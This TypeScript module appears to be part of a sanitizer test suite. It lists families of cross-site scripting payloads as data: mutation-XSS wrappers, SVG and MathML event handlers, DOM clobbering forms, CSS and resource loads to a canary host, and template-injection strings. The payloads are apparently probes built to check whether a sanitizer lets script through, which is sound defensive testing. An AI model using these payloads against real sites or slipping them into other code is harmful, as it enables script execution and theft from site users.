// Hostile markup that turns into something else than it looked like, in drawings, names, styles and templates.
import { CANARY, type Family } from "./hostile-code.ts";

/** Text that changes its meaning when what was made of it is written out and read again. */
const MUTATING: readonly ((attack: string) => string)[] = [
  (attack) => `<svg></p><style><a id="</style>${attack}">`,
  (attack) => `<math><mtext><table><mglyph><style><!--</style>${attack}`,
  (attack) => `<math><mtext><table><mglyph><style><math title="</style>${attack}">`,
  (attack) => `<form><math><mtext></form><form><mglyph><style></math>${attack}`,
  (attack) => `<svg><desc><table><style><!--</style>${attack}--></table></desc></svg>`,
  (attack) => `<svg><title><style><!--</style>${attack}--></title></svg>`,
  (attack) => `<svg><foreignObject><p><style><!--</style></p>${attack}</foreignObject></svg>`,
  (attack) => `<math><annotation-xml encoding="text/html"><style><!--</style>${attack}--></annotation-xml></math>`,
  (attack) => `<math><mi><mglyph><svg><mtext><textarea><path id="</textarea>${attack}">`,
  (attack) => `<noscript><style></noscript>${attack}</style>`,
  (attack) => `<noembed><p title="</noembed>${attack}">`,
  (attack) => `<noframes><p title="</noframes>${attack}">`,
  (attack) => `<xmp><p title="</xmp>${attack}">`,
  (attack) => `<title><p title="</title>${attack}">`,
  (attack) => `<textarea><p title="</textarea>${attack}">`,
  (attack) => `<iframe><p title="</iframe>${attack}">`,
  (attack) => `<template><p title="</template>${attack}">`,
  (attack) => `<select><template><style><!--</template></select>${attack}`,
  (attack) => `<select><option><style></option></select>${attack}</style>`,
  (attack) => `<table><td><svg><desc></td></table>${attack}`,
  (attack) => `<a><table><a>${attack}</table></a>`,
  (attack) => `<p><svg><p>${attack}`,
  (attack) => `${"<b><div>".repeat(300)}${attack}`,
  (attack) => `${"<svg><desc>".repeat(200)}${attack}`,
  (attack) => `<!--${"-".repeat(3)}>${attack}<!-- --`,
  (attack) => `<p id="a\`b" title='c"d' lang="&quot;>${attack}">x</p>`,
  (attack) => `<svg><![CDATA[</svg>${attack}]]></svg>`,
  (attack) => `<svg><style>&lt;/style&gt;${attack}</style></svg>`,
  (attack) => `<plaintext>${attack}`,
  (attack) => `<listing>&lt;img&gt;</listing>${attack}`,
];
export const mutations: Family = {
  family: "mutations",
  texts: (code) => MUTATING.flatMap((wrap) => [`<img src=x: onerror=${code()}>`, `<svg onload=${code()}>`].map(wrap)),
};

export const drawings: Family = {
  family: "drawings",
  texts: (code) => [
    ...["begin", "end", "repeat"].map(
      (event) => `<svg><animate on${event}=${code()} attributeName=x dur=1ms repeatCount=2 /></svg>`,
    ),
    `<svg><set onbegin=${code()} attributeName=x to=1 /></svg>`,
    `<svg><animateTransform onbegin=${code()} attributeName=transform dur=1s /></svg>`,
    `<svg><animateMotion onbegin=${code()} dur=1s path="M0 0" /></svg>`,
    `<svg><image href=x: onerror=${code()} /></svg>`,
    `<svg><image xlink:href=x: onerror=${code()} /></svg>`,
    `<svg><feImage href=x: onerror=${code()} onload=${code()} /></svg>`,
    `<svg><foreignObject><img src=x: onerror=${code()}></foreignObject></svg>`,
    `<svg><foreignObject><iframe srcdoc="<script>parent.${code()}</script>"></iframe></foreignObject></svg>`,
    `<svg><desc><img src=x: onerror=${code()}></desc></svg>`,
    `<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">${code()}</handler></svg>`,
    `<svg xmlns="http://www.w3.org/2000/svg" onload="${code()}"/>`,
    `<svg:svg onload=${code()}>`,
    `<math><mtext><img src=x: onerror=${code()}></mtext></math>`,
    `<math><maction actiontype="statusline" class=press xlink:href="javascript:${code()}">lead</maction></math>`,
    `<math onfocus=${code()} tabindex=0 autofocus><mi>x</mi></math>`,
  ],
};

/** Names that a page's own code may look up; none runs anything by itself, together with a careless script they do. */
const CLOBBERED = [
  "hit",
  "cookie",
  "body",
  "attributes",
  "nodeName",
  "innerHTML",
  "childNodes",
  "parentNode",
  "getElementById",
  "querySelector",
  "removeChild",
  "__proto__",
];
export const clobbering: Family = {
  family: "clobbering",
  texts: (code) => [
    ...CLOBBERED.map(
      (name) =>
        `<form id=${name} name=${name}><input name=${name} id=attributes><img src=x: name=${name} onerror=${code()}></form>`,
    ),
    `<form><input name=parentNode><input name=removeAttribute><input name=attributes></form><img src=x: onerror=${code()}>`,
    `<a id=root><a id=root name=x href="javascript:${code()}" class=press>lead</a>`,
    `<div id=root><img src=x: onerror=${code()}></div>`,
    `<iframe name=top srcdoc="<script>parent.${code()}</script>"></iframe>`,
  ],
};

export const styles: Family = {
  family: "styles",
  texts: (code) => [
    `<style>*{background:url(${CANARY}/${code("quoted")})}</style>`,
    `<style>@import '${CANARY}/${code("quoted")}';</style>`,
    `<style>@font-face{font-family:a;src:url(${CANARY}/${code("quoted")})}*{font-family:a}</style>`,
    `<p style="background:url(${CANARY}/${code("quoted")})">x</p>`,
    `<p style="background:url(javascript:${code()})">x</p>`,
    `<p style="width:expression(${code()})">x</p>`,
    `<p style="behavior:url(${CANARY}/${code("quoted")});-moz-binding:url(${CANARY}/${code("quoted")})">x</p>`,
    `<style>@keyframes a{}</style><p style="animation:a 1ms" onanimationend=${code()}>x</p>`,
    `<style>p{color:red;</style><img src=x: onerror=${code()}>`,
    `<link rel=stylesheet href="${CANARY}/${code("quoted")}">`,
    `<link rel=stylesheet href="data:text/css,*{background:url(${CANARY}/${code("quoted")})}">`,
    `<link rel=preload as=image href="${CANARY}/${code("quoted")}"><link rel=icon href="${CANARY}/${code("quoted")}">`,
    `<img src="${CANARY}/${code("quoted")}">`,
    `<img srcset="${CANARY}/${code("quoted")} 1x"><picture><source srcset="${CANARY}/${code("quoted")}"><img></picture>`,
    `<video src="${CANARY}/${code("quoted")}" autoplay></video><audio src="${CANARY}/${code("quoted")}" autoplay></audio>`,
    `<object data="${CANARY}/${code("quoted")}"></object><embed src="${CANARY}/${code("quoted")}">`,
    `<iframe src="${CANARY}/${code("quoted")}"></iframe>`,
    `<input type=image src="${CANARY}/${code("quoted")}">`,
    `<svg><image href="${CANARY}/${code("quoted")}"/><feImage href="${CANARY}/${code("quoted")}"/></svg>`,
  ],
};

/** What templates and text replacements would run, were there any. */
export const templates: Family = {
  family: "templates",
  texts: (code) => [
    `{{${code()}}}`,
    `{{constructor.constructor('${code()}')()}}`,
    `{{$on.constructor('${code()}')()}}`,
    `\${${code()}}`,
    `#{${code()}}`,
    `<%= ${code()} %>`,
    `{%raw%}<img src=x: onerror=${code()}>`,
    `[[${code()}]]`,
    `<div ng-app ng-init="${code()}" x-data="${code()}" x-init="${code()}" v-html="${code()}" @click="${code()}" class=press>x</div>`,
    `$&<img src=x: onerror=${code()}>$'$\``,
    `%3Cimg src=x: onerror=${code()}%3E`,
    `&lt;img src=x: onerror=${code()}&gt;`,
    `\\u003cimg src=x: onerror=${code()}\\u003e`,
    `&amp;lt;svg onload=${code()}&amp;gt;`,
    `</script><script>${code()}</script>`,
    `</title><script>${code()}</script>`,
    `</textarea></style></noscript></template><svg onload=${code()}>`,
    `"};${code()};//`,
    `';${code()};//`,
    `\u2028${code()}\u2029`,
    `<div is="${code()}" contenteditable autofocus onfocus=${code()}>x</div>`,
  ],
};
